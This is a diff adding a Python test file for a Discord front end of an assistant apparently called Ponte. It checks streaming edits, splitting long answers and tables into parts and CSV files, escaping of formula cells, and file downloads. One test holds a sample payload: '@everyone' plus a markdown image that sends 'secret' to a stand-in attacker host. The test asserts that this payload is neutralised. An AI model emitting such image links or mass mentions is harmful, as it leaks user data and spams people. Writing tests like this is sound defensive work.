@@ -1,0 +1,137 @@
+"""What a person sees while Ponte works, and how a long answer comes."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+
+from adapters.discord.surface import INTERVAL
+from tests.discord.house import House
+from tests.fakes.discord import FakeDiscord, Somebody
+from tests.fakes.discord.world import Payload
+
+
+async def test_typing_shows_until_there_is_text(
+    discord: FakeDiscord, house: House, ana: Somebody
+) -> None:
+    house.give("plot.png", b"png")
+    await house.open()
+    gate = asyncio.Event()
+
+    async def wait(ask: object) -> None:
+        await gate.wait()
+
+    await ana.say("call draw {}")
+    await discord.until(lambda: ana.dm.typing)
+    gate.set()
+    await ana.reads("You said: ")
+
+
+async def test_an_answer_grows_by_edits_that_are_never_queued(
+    discord: FakeDiscord, house: House, ana: Somebody
+) -> None:
+    words = [f"word{n} " for n in range(200)]
+    house.model.script = {"tell me": words}
+    house.model.pauses = asyncio.Queue()
+    await house.open()
+    began = time.monotonic()
+    await ana.say("tell me")
+    await ana.reads("word0")
+    for _ in words[:120]:
+        house.model.go_on()
+    await ana.reads("word100")
+    for _ in words:
+        house.model.go_on()
+    answer = await ana.reads("word199")
+    took = time.monotonic() - began
+    assert len(discord.world.said_by(discord.world.me.id)) == 1
+    assert answer["edits"] <= took / INTERVAL + 2
+
+
+async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
+    house: House, ana: Somebody
+) -> None:
+    code = "\n".join(f"line_{n} = {n}" for n in range(200))
+    house.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
+    await house.open()
+    await ana.say("tell me")
+    seen = await ana.sees(lambda seen: seen and seen[-1]["content"].endswith("Done."))
+    assert len(seen) == 2
+    for part in seen:
+        assert len(part["content"]) <= 2000
+        assert part["content"].count("```") % 2 == 0
+    assert "```python\n" in seen[1]["content"]
+    await ana.discord.until(lambda: not any(buttons(part) for part in seen))
+
+
+async def test_a_very_long_answer_ends_in_a_file(house: House, ana: Somebody) -> None:
+    long = "\n\n".join(f"paragraph {n} " + "x" * 900 for n in range(20))
+    house.model.script = {"tell me": [long]}
+    await house.open()
+    await ana.say("tell me")
+    last = await ana.reads("The whole answer is in `answer.md`")
+    await ana.discord.until(lambda: last["attachments"])
+    seen = ana.discord.world.said_by(ana.discord.world.me.id)
+    assert len(seen) == 4
+    assert all(len(part["content"]) <= 2000 for part in seen)
+    (file,) = last["attachments"]
+    assert ana.discord.world.files[int(file["id"])].decode() == long
+
+
+async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
+    house: House, ana: Somebody
+) -> None:
+    rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
+    table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
+    house.model.script = {"show": [f"Your customers:\n\n{table}"]}
+    await house.open()
+    await ana.say("show")
+    answer = await ana.reads("57 more rows in `table-1.csv`")
+    await ana.discord.until(lambda: answer["attachments"])
+    assert "**id: 0**\nname: Ana 0\ncity: Lisboa" in answer["content"]
+    assert "|" not in answer["content"]
+    (file,) = answer["attachments"]
+    csv = ana.discord.world.files[int(file["id"])].decode("utf-8-sig").splitlines()
+    assert csv[0] == "id,name,city,note"
+    assert csv[60] == "59,Ana 59,Lisboa,'=1+1"
+
+
+async def test_model_text_mentions_nobody_and_fetches_nothing(house: House, ana: Somebody) -> None:
+    evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
+    house.model.script = {"say it": [evil]}
+    await house.open()
+    await ana.say("say it")
+    answer = await ana.reads("evil.example")
+    assert "@everyone" not in answer["content"]
+    assert "<@1" not in answer["content"]
+    assert "<https://evil.example/?q=secret>" in answer["content"]
+    assert answer["allowed_mentions"]["parse"] == []
+
+
+async def test_files_in_are_kept_by_their_own_name_and_the_large_one_is_not_read(
+    discord: FakeDiscord, house: House, ana: Somebody
+) -> None:
+    await house.open()
+    large = b"x" * (21 * 1024 * 1024)
+    await ana.say("look", files=[("relatório.csv", b"a,b\n1,2\n"), ("film.mp4", large)])
+    await ana.reads("You said: look")
+    item = house.model.asks[0].input[-1]
+    assert [file.name for file in item.files] == ["relatório.csv"]
+    assert "film.mp4 could not be fetched" in item.text
+    _, data = await house.engine.files.get(item.files[0].id)
+    assert data == b"a,b\n1,2\n"
+    assert discord.downloads == 1
+
+
+async def test_a_file_that_the_cdn_does_not_give_does_not_take_the_turn(
+    discord: FakeDiscord, house: House, ana: Somebody
+) -> None:
+    await house.open()
+    discord.refuse("GET", "/cdn/*", 404, times=9)
+    await ana.say("look", files=[("a.csv", b"1")])
+    answer = await ana.reads("You said: look")
+    assert "a.csv could not be fetched" in answer["content"]
+
+
+def buttons(message: Payload) -> list[Payload]:
+    return [button for row in message["components"] for button in row["components"]]
